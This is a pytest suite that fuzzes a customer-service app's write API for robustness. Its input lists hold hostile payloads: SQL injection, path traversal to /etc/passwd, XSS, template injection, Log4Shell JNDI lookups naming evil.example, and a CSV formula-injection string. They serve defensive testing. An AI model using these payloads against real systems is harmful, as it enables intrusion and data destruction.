"""Probes on every write endpoint of the OpenAPI schema (found by iterating `app.openapi()`, so new endpoints
are probed without anyone listing them): malformed JSON, wrong top-level and field types, oversized and
deeply nested bodies, injection-looking ids and field names, and odd Unicode (NUL, lone surrogates,
direction overrides, huge combining runs) in otherwise valid bodies.

Every answer must be a 4xx with a JSON `code` or a success, never a 5xx; after every 4xx the row counts of
all tables are exactly what they were before the request (nothing half-written)."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from caredesk.bootstrap.runtime import Runtime
from caredesk.http.app import create_app
from caredesk.intake.actions import IncomingMessage, do_receive_message
from caredesk.storage.orm import Base, Customer, KnowledgeEntry
from tests.conftest import create_key

WRITE_METHODS = ("post", "put", "patch", "delete")
COMPLAINT = "你们柜员态度太差了，我在浦东支行排队两个小时没人理，要求给个说法"
MISSING_ID = "probe-missing-id"
INJECTION_IDS = ["1' OR '1'='1", "1; DROP TABLE message; --", "../../etc/passwd", "%00", "${jndi:ldap://x/a}",
                 "<script>alert(1)</script>", "a" * 300, "\u202eevil", "🙂" * 10]
INJECTION_TEXTS = ["'; DROP TABLE message; --", "\" OR 1=1 --", "<img src=x onerror=alert(1)>", "{{7*7}}{% raw %}",
                   "${jndi:ldap://evil.example/a}", "$where: function() { return true }", "../../../etc/passwd"]
ODD_UNICODE = ["nul\u0000byte", "lone \ud800 surrogate", "\u202eright-to-left override", "e" + "\u0301" * 2000,
               "zero\u200bwidth\ufeffbom", "👨‍👩‍👧‍👦🏳️‍🌈", "\U0010ffff private plane", "\r\n\t\x0b\x0c controls"]


# --- the schema ------------------------------------------------------------------------------------------
def _resolve(schema: dict[str, Any], components: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in schema:
        schema = components[schema["$ref"].rsplit("/", 1)[-1]]
    return schema


def _variant(schema: dict[str, Any], components: dict[str, Any]) -> dict[str, Any]:
    """The first non-null alternative of anyOf/oneOf."""
    schema = _resolve(schema, components)
    for key in ("anyOf", "oneOf"):
        if key in schema:
            options = [_resolve(s, components) for s in schema[key]]
            return next((s for s in options if s.get("type") != "null"), options[0])
    return schema


def sample(schema: dict[str, Any], components: dict[str, Any]) -> Any:
    """A small value that the schema accepts (required properties only)."""
    schema = _variant(schema, components)
    if "enum" in schema:
        return schema["enum"][0]
    if "const" in schema:
        return schema["const"]
    if "default" in schema and schema["default"] is not None:
        return schema["default"]
    kind = schema.get("type")
    if kind == "object" or "properties" in schema:
        props = schema.get("properties", {})
        return {name: sample(props[name], components) for name in schema.get("required", [])}
    if kind == "array":
        return [sample(schema.get("items", {}), components) for _ in range(schema.get("minItems", 0))]
    if kind == "integer":
        return max(int(schema.get("minimum", 1)), 1)
    if kind == "number":
        return float(schema.get("minimum", 1.0))
    if kind == "boolean":
        return True
    if schema.get("format") == "date-time":
        return "2026-12-01T09:00:00Z"
    if schema.get("format") == "date":
        return "2026-12-01"
    return "probe"[: schema.get("maxLength", 5)].ljust(schema.get("minLength", 1), "p")


def wrong_values(schema: dict[str, Any], components: dict[str, Any]) -> list[Any]:
    """Values of the wrong JSON type for a property."""
    variant = _variant(schema, components)
    kind = variant.get("type", "object" if "properties" in variant else None)
    if variant.get("format") in {"date-time", "date"}:  # a number is a valid Unix time there
        return ["yesterday-ish", {"$gt": ""}, [2026]]
    return {"string": [12345, {"$ne": None}, ["a"]], "integer": ["1 OR 1=1", 1.5, {"n": 1}],
            "number": ["NaN", [1]], "boolean": ["maybe", {"b": True}], "array": ["not-a-list", {"a": 1}],
            "object": ["not-an-object", [1, 2]]}.get(kind, [{"unexpected": ["nested"]}])


def write_operations(app: Any) -> list[tuple[str, str, dict[str, Any]]]:
    schema = app.openapi()
    return [(method.upper(), path, op) for path, ops in schema["paths"].items() for method, op in ops.items()
            if method in WRITE_METHODS]


# --- fixtures -------------------------------------------------------------------------------------------------
class Prober:
    def __init__(self, client: TestClient, rt: Runtime, ids: dict[str, str]) -> None:
        self.client = client
        self.rt = rt
        self.ids = ids
        self.components = client.app.openapi()["components"]["schemas"]  # type: ignore[attr-defined]
        tables = [t.name for t in Base.metadata.sorted_tables]
        self._count_sql = text(" UNION ALL ".join(f"SELECT '{t}', COUNT(*) FROM {t}" for t in tables))
        self.failures: list[str] = []
        self._known: dict[str, int] | None = None  # the counts after the last refusal (nothing changed since)

    def counts(self) -> dict[str, int]:
        with self.rt.engine.connect() as conn:
            return {name: int(n) for name, n in conn.execute(self._count_sql)}

    def url(self, path: str, op: dict[str, Any], override: str | None = None) -> str:
        for param in op.get("parameters", []):
            if param["in"] == "path":
                value = override if override is not None else self.ids.get(param["name"], MISSING_ID)
                path = path.replace("{" + param["name"] + "}", _quote(value))
        return path

    def body_schema(self, op: dict[str, Any]) -> dict[str, Any] | None:
        content = op.get("requestBody", {}).get("content", {})
        if "application/json" not in content:
            return None
        return _resolve(content["application/json"]["schema"], self.components)

    def send(self, label: str, method: str, url: str, *, strict: bool, **kw: Any) -> None:
        """strict: the request is invalid, so it must be refused (4xx); otherwise success is allowed too."""
        if "json" in kw:  # escaped on the wire, so that lone surrogates and NULs travel as JSON allows
            kw["content"] = json.dumps(kw.pop("json")).encode()
            kw["headers"] = {"Content-Type": "application/json"} | kw.get("headers", {})
        before = self._known if self._known is not None else self.counts()
        self._known = None
        response = self.client.request(method, url, **kw)
        where = f"{label}: {method} {url[:80]} -> {response.status_code}"
        if response.status_code >= 500:
            self.failures.append(f"{where} {response.text[:200]}")
            return
        if strict and response.status_code < 400:
            self.failures.append(f"{where}: accepted an invalid request")
        if response.status_code >= 400:
            try:
                code = response.json().get("code")
            except ValueError:
                code = None
            if not code:
                self.failures.append(f"{where}: no JSON code ({response.text[:100]})")
            after = self.counts()
            if after != before:
                changed = {k: (before[k], after[k]) for k in after if after[k] != before[k]}
                self.failures.append(f"{where}: rows changed on a refused request {changed}")
            self._known = after


def _quote(value: str) -> str:
    from urllib.parse import quote

    return quote(value, safe="")


@pytest.fixture
def prober(demo_runtime: Runtime) -> Iterator[Prober]:
    outcome = do_receive_message(demo_runtime, IncomingMessage(COMPLAINT, "web", "probe-customer"))
    assert outcome.work_order_id
    with demo_runtime.session_factory() as s:
        entry_id = s.query(KnowledgeEntry.id).limit(1).scalar()
        customer_id = s.query(Customer.id).filter(Customer.ref == "probe-customer").scalar()
    ids = {"message_id": outcome.message_id, "order_id": outcome.work_order_id, "entry_id": str(entry_id),
           "customer_id": str(customer_id)}
    key = create_key(demo_runtime)
    with TestClient(create_app(demo_runtime, start_consumer=False), raise_server_exceptions=False) as client:
        client.headers["Authorization"] = f"Bearer {key}"
        yield Prober(client, demo_runtime, ids)


def _report(prober: Prober) -> None:
    assert not prober.failures, f"{len(prober.failures)} probe failures:\n" + "\n".join(prober.failures[:40])


# --- the probes -------------------------------------------------------------------------------------------------
def test_probe_operations_are_found_in_the_schema(prober: Prober) -> None:
    operations = write_operations(prober.client.app)
    paths = {p for _, p, _ in operations}
    assert {"/api/v1/messages", "/api/v1/knowledge", "/api/v1/knowledge/import"} <= paths
    assert len(operations) >= 15


def test_probe_malformed_and_wrongly_shaped_bodies(prober: Prober) -> None:
    json_headers = {"Content-Type": "application/json"}
    for method, path, op in write_operations(prober.client.app):
        schema = prober.body_schema(op)
        if schema is None:
            continue
        url = prober.url(path, op)
        for label, raw in [("malformed json", b'{"text": "unterminated'), ("trailing garbage", b'{} xyz'),
                           ("not utf-8", b'{"text": "\xff\xfe\xfa"}'), ("empty body", b""),
                           ("deep nesting", b"[" * 20_000 + b"]" * 20_000), ("NaN", b'{"a": NaN}')]:
            prober.send(label, method, url, content=raw, headers=json_headers, strict=True)
        for value in ([], "a string", 42, None, [{"text": "x"}]):
            prober.send(f"top-level {type(value).__name__}", method, url, json=value, strict=True)
        prober.send("form instead of JSON", method, url, data={"text": "x"}, strict=True)
        prober.send("text/plain", method, url, content=b'{"text": "x"}', headers={"Content-Type": "text/plain"},
                    strict=schema.get("required") is not None)
        valid = sample(schema, prober.components)
        prober.send("unknown injected field", method, url, strict=True,
                    json={**valid, "'; DROP TABLE message; --": 1, "__proto__": {"admin": True}})
        for name, prop in schema.get("properties", {}).items():
            for wrong in wrong_values(prop, prober.components):
                body = copy.deepcopy(valid) | {name: wrong}
                prober.send(f"{name}={json.dumps(wrong)[:30]}", method, url, json=body, strict=True)
    _report(prober)


def test_probe_oversized_bodies(prober: Prober) -> None:
    limit = prober.rt.settings.max_body_bytes
    for method, path, op in write_operations(prober.client.app):
        url = prober.url(path, op)
        huge = b'{"text": "' + b"a" * (limit + 10) + b'"}'
        prober.send("oversized declared", method, url, content=huge, headers={"Content-Type": "application/json"},
                    strict=True)

        if prober.body_schema(op) is None and "requestBody" not in op:
            continue  # a handler that reads no body never buffers it: nothing to refuse

        def chunks() -> Iterator[bytes]:  # no Content-Length: the limit must hold on the stream too
            yield b'{"text": "'
            for _ in range(limit // 65536 + 2):
                yield b"a" * 65536
            yield b'"}'

        prober.send("oversized streamed", method, url, content=chunks(), headers={"Content-Type": "application/json"},
                    strict=True)
        schema = prober.body_schema(op)
        for name, prop in (schema or {}).get("properties", {}).items():
            if _variant(prop, prober.components).get("type") == "string":
                long_value = sample(schema, prober.components) | {name: "长" * 300_000}  # under the byte limit
                prober.send(f"{name} too long", method, url, json=long_value, strict=False)
    _report(prober)


def test_probe_injection_looking_ids_in_paths_and_queries(prober: Prober) -> None:
    for method, path, op in write_operations(prober.client.app):
        if not any(p["in"] == "path" for p in op.get("parameters", [])):
            continue
        schema = prober.body_schema(op)
        body = sample(schema, prober.components) if schema else None
        for bad_id in INJECTION_IDS:
            prober.send(f"id {bad_id[:20]!r}", method, prober.url(path, op, bad_id), json=body, strict=True)
        for param in op.get("parameters", []):
            if param["in"] == "query":
                for wrong in ("1 OR 1=1", "-1", "9" * 40, "\u0000"):
                    prober.send(f"query {param['name']}={wrong!r}", method, prober.url(path, op),
                                params={param["name"]: wrong}, json=body, strict=False)
    _report(prober)


def test_probe_injection_and_odd_unicode_in_valid_bodies(prober: Prober) -> None:
    """These bodies may be valid: success is fine, a 5xx or a half-written refusal is not; and the
    injection-looking text must arrive as data (the tables are all still there)."""
    for method, path, op in write_operations(prober.client.app):
        schema = prober.body_schema(op)
        if schema is None:
            continue
        url = prober.url(path, op)
        valid = sample(schema, prober.components)
        strings = [n for n, p in schema.get("properties", {}).items()
                   if _variant(p, prober.components).get("type") == "string"]
        for name in strings:
            for value in INJECTION_TEXTS + ODD_UNICODE:
                prober.send(f"{name}={value[:20]!r}", method, url, json=valid | {name: value}, strict=False)
    counts = prober.counts()
    assert counts["message"] >= 1 and counts["knowledge_entry"] >= 1  # nothing was dropped
    _report(prober)


def test_probe_multipart_upload_is_refused_cleanly(prober: Prober) -> None:
    url = "/api/v1/knowledge/import"
    cases: list[tuple[str, dict[str, Any]]] = [
        ("no file", {"data": {"x": "1"}}),
        ("JSON instead of a file", {"json": {"file": "x"}}),
        ("binary junk", {"files": {"file": ("kb.xlsx", b"\x00\x01PK\x03\x04junk" * 100, "application/octet-stream")}}),
        ("csv with a NUL", {"files": {"file": ("kb.csv", "question,answer\n=cmd|' /C calc'!A0,\u0000\n"
                                                             .encode(), "text/csv")}}),
        ("not utf-8 csv", {"files": {"file": ("kb.csv", b"question,answer\n\xff\xfe,\xfa\n", "text/csv")}}),
        ("broken multipart", {"content": b"--xyz\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\nabc",
                              "headers": {"Content-Type": "multipart/form-data; boundary=xyz"}}),
    ]
    for label, kw in cases:
        prober.send(label, "POST", url, strict="NUL" not in label, **kw)
    _report(prober)
